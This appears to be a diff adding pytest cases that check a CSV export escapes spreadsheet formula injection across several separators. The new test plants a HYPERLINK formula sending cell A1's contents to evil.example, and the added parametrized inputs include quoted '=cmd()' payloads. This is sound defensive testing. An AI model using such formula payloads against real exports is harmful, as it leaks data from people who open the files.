@@ -70,9 +70,22 @@ def test_command_and_board_write_the_same(board: Board, tmp_path: Path) -> None:
 @pytest.mark.parametrize(("text", "expected"), [
     ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("  =1", "'  =1"), ("\t=1", "\\t=1"),
     ("\uff1d1+1", "'\uff1d1+1"), ("a;=cmd()", "a;'=cmd()"), ("a; =cmd()", "a;' =cmd()"), ("a|@x", "a|'@x"),
+    ('a;"=cmd();"', "a;'\"=cmd();\""), ("a;'=cmd()", "a;''=cmd()"), ('a; "" =1', "a;' \"\" =1"), ('"-1"', "'\"-1\""),
     ("a=b", "a=b"), ("x-y + z@w", "x-y + z@w"), ("", ""), ("\x1b[31m", "\\x1b[31m")])
 def test_nothing_is_computed(text: str, expected: str) -> None:
     assert safe(text) == expected
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
+def test_no_cell_is_a_formula_however_the_file_is_split(board: Board, tmp_path: Path, separator: str) -> None:
+    populate(board, tmp_path)
+    bad = "no license;\"=HYPERLINK('http://evil.example/'&A1;'open');\""
+    with board.database.session() as session:
+        session.execute(update(Project).values(title=bad, problem=f'x|"{bad}'))
+    text = board.as_("vera").get(HERE).content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
+    assert "HYPERLINK" in text
+    assert [cell for cell in cells if cell.lstrip("\"' ")[:1] in set("=+-@") and not cell.startswith("'")] == []
 
 
 def test_formulas_in_every_field(board: Board, tmp_path: Path) -> None:
